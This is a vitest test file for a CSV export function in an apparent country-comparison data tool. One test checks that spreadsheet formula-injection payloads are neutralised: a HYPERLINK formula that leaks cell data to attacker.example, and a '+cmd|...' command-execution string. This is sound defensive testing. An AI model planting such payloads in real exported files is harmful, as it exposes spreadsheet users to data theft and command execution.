import { describe, expect, it } from 'vitest';
import { buildCompareCsv, compareCsvFileName, type CsvCoverageCell, type CsvFigure } from './compare-csv';

describe('buildCompareCsv', () => {
  const figures: CsvFigure[] = [
    {
      countryCode: 'PH',
      countryName: 'Philippines',
      indicatorCode: 'REMITTANCES_USD',
      indicatorName: 'Personal remittances received',
      unit: 'USD',
      year: 2020,
      value: 34913340000,
      sex: 'TOTAL',
      kind: 'STATISTIC',
      programName: null,
      note: 'World Bank, via "IndexMundi", current US$',
      sourceTitle: 'Personal remittances, received (current US$)',
      sourceUrl: 'https://example.org/remittances?country=PH&year=2020',
    },
    {
      countryCode: 'ID',
      countryName: 'Indonesia',
      indicatorCode: 'DESMIGRATIF_VILLAGES_NEW',
      indicatorName: 'New Desmigratif villages formed in the year',
      unit: 'villages',
      year: 2018,
      value: 130,
      sex: 'TOTAL',
      kind: 'OUTCOME',
      programName: 'Productive Migrant Village',
      note: 'In 87 regencies\nand 12 provinces.',
      sourceTitle: 'Kemnaker sasar 150 desa',
      sourceUrl: 'https://example.org/kontan',
    },
  ];
  const coverage: CsvCoverageCell[] = [
    {
      countryCode: 'PH',
      countryName: 'Philippines',
      dimension: 'ECONOMIC',
      theme: 'ENTREPRENEURSHIP',
      practiceCount: 5,
    },
    { countryCode: 'ID', countryName: 'Indonesia', dimension: 'ECONOMIC', theme: 'ENTREPRENEURSHIP', practiceCount: 0 },
  ];

  it('writes a header, one row per figure, then one row per coverage cell, with CRLF line ends', () => {
    const csv = buildCompareCsv(figures, coverage);
    expect(csv).toBe(
      [
        'section,country_code,country,indicator_code,indicator,unit,year,value,sex,kind,programme,note,source_title,source_url,dimension,theme,practice_count',
        'figure,PH,Philippines,REMITTANCES_USD,Personal remittances received,USD,2020,34913340000,TOTAL,STATISTIC,,"World Bank, via ""IndexMundi"", current US$","Personal remittances, received (current US$)",https://example.org/remittances?country=PH&year=2020,,,',
        'figure,ID,Indonesia,DESMIGRATIF_VILLAGES_NEW,New Desmigratif villages formed in the year,villages,2018,130,TOTAL,OUTCOME,Productive Migrant Village,"In 87 regencies\nand 12 provinces.",Kemnaker sasar 150 desa,https://example.org/kontan,,,',
        'coverage,PH,Philippines,,,,,,,,,,,,ECONOMIC,ENTREPRENEURSHIP,5',
        'coverage,ID,Indonesia,,,,,,,,,,,,ECONOMIC,ENTREPRENEURSHIP,0',
        '',
      ].join('\r\n'),
    );
  });

  it('gives every row as many fields as the header', () => {
    const csv = buildCompareCsv(figures, coverage);
    // Outside quoted fields, count the commas of each record.
    const records: string[][] = [];
    let field = '';
    let record: string[] = [];
    let quoted = false;
    for (let i = 0; i < csv.length; i++) {
      const char = csv[i]!;
      if (quoted) {
        if (char === '"' && csv[i + 1] === '"') {
          field += '"';
          i++;
        } else if (char === '"') quoted = false;
        else field += char;
      } else if (char === '"') quoted = true;
      else if (char === ',') {
        record.push(field);
        field = '';
      } else if (char === '\r' && csv[i + 1] === '\n') {
        record.push(field);
        records.push(record);
        record = [];
        field = '';
        i++;
      } else field += char;
    }
    expect(records).toHaveLength(5);
    for (const row of records) expect(row).toHaveLength(17);
    expect(records[1]![11]).toBe('World Bank, via "IndexMundi", current US$');
    expect(records[2]![11]).toBe('In 87 regencies\nand 12 provinces.');
  });

  it('neutralises cells a spreadsheet would evaluate, and keeps numbers, negative ones too, as numbers', () => {
    const hostile: CsvFigure = {
      ...figures[0]!,
      value: -1250.5,
      programName: '@SUM(A1:A9)',
      note: '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
      sourceTitle: '+cmd|" /C calc"!A0',
      sourceUrl: 'https://example.org/source',
    };
    const [, row] = buildCompareCsv([hostile], []).split('\r\n');
    expect(row).toBe(
      [
        'figure,PH,Philippines,REMITTANCES_USD,Personal remittances received,USD,2020,-1250.5,TOTAL,STATISTIC',
        `"'@SUM(A1:A9)"`,
        `"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")"`,
        `"'+cmd|"" /C calc""!A0"`,
        'https://example.org/source,,,',
      ].join(','),
    );
  });

  it('writes only the header when there is nothing to compare', () => {
    expect(buildCompareCsv([], []).split('\r\n')).toHaveLength(2);
  });
});

describe('compareCsvFileName', () => {
  it('names the file after the countries, in order', () => {
    expect(compareCsvFileName(['ID', 'PH', 'VN'])).toBe('atlas-compare-ID-PH-VN.csv');
  });
});
